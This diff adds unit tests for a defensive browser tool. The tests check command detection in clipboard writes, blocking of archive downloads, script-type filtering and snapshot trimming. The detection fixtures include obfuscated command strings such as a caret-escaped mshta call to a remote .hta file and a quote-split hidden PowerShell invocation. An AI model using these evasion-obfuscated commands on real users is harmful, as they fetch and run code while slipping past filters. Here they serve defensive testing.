@@ -153,3 +153,48 @@ test('EventRecorder.note: a held action is judged on what it does now', () => {
   r.note('not-recorded', 'x');
   assert.equal(r.list().length, 1);
 });
+
+test('looksLikeCommand: escape and quoting characters do not hide a command from the fallback (issue 21, class 4)', () => {
+  const yes = ['m^s^h^t^a https://x.example/a.hta', 'c^m^d /c start x', 'po`wer`shell -c iex', 'p"ower"sh"ell" -w hidden', "power'shell' -c x"];
+  for (const t of yes) {
+    assert.equal(AG.looksLikeCommand(t), true, t);
+    assert.equal(AG.holdFallback('clipboard-write', AG.holdDetail('clipboard-write', t), true), 'refuse', t);
+  }
+  for (const t of ['2^10 = 1024', 'She said "hello"', 'x`y']) assert.equal(AG.looksLikeCommand(t), false, t);
+});
+
+test('holdFallback: archives fail closed like programs; documents and pictures go on (issue 21, class 4)', () => {
+  const refuse = [{ filename: 'update.zip' }, { filename: 'tool.7z' }, { url: 'https://x.example/a.rar?x=1' }, { filename: 'blob', mime: 'application/zip' },
+    { filename: 'setup.exe' }];
+  const pass = [{ filename: 'report.pdf', mime: 'application/pdf' }, { filename: 'photo.jpg' }, { filename: 'zip.txt' }];
+  for (const i of refuse) assert.equal(AG.holdFallback('download', i), 'refuse', JSON.stringify(i));
+  for (const i of pass) assert.equal(AG.holdFallback('download', i), 'pass', JSON.stringify(i));
+  assert.equal(AG.downloadRoute({ tabId: 1, state: 'judged' }, { filename: 'notes.zip' }), 'hold', 'an archive from a judged page is judged again');
+  assert.equal(AG.downloadRoute(null, { filename: 'notes.zip' }), 'cancel', 'an archive with no page to ask is cancelled');
+});
+
+test('isScriptType: only scripts that run are fetched (issue 21, class 4)', () => {
+  for (const t of ['', 'text/javascript', 'module', 'application/javascript', 'TEXT/JavaScript; charset=utf-8', 'application/x-javascript', 'text/ecmascript']) {
+    assert.equal(AG.isScriptType(t), true, t);
+  }
+  for (const t of ['text/plain', 'text/template', 'application/json', 'importmap', 'speculationrules', 'text/x-handlebars']) assert.equal(AG.isScriptType(t), false, t);
+});
+
+test('wireSize and fitFrame: a snapshot that escapes past the host frame limit is trimmed, never dropped (issue 21, class 5)', () => {
+  // Within the field limits, but every '<' is six bytes on Chromium's wire.
+  const snap = { url: 'https://x.example/', html: '<'.repeat(AG.LIMITS.html), text: 'call 050-1234-5678 now',
+    scripts: Array.from({ length: 8 }, (_, i) => ({ url: 'https://x.example/' + i + '.js', source: '<>&'.repeat(170000) })), events: [{ type: 'fullscreen', count: 1 }] };
+  const msg = { type: 'analyze', id: 'r1', snapshot: snap };
+  assert.ok(wireSizeOver(msg, AG.MAX_FRAME), 'the bomb is over the limit before');
+  const trimmed = AG.fitFrame(msg, AG.MAX_FRAME - 65536);
+  assert.ok(AG.wireSize(msg) <= AG.MAX_FRAME - 65536, 'under the limit after');
+  assert.ok(trimmed.length > 0, 'says what it trimmed');
+  assert.equal(snap.text, 'call 050-1234-5678 now', 'the short visible text is kept');
+  assert.equal(snap.events.length, 1, 'events kept');
+  const small = { type: 'analyze', snapshot: { url: 'https://y.example/', html: '<p>hi</p>' } };
+  assert.deepEqual(AG.fitFrame(small, AG.MAX_FRAME), [], 'a normal snapshot is untouched');
+  assert.equal(small.snapshot.html, '<p>hi</p>');
+  assert.equal(AG.wireSize({ a: '<é' }), JSON.stringify({ a: '' }).length + 12);
+});
+
+function wireSizeOver(msg, max) { return AG.wireSize(msg) > max; }
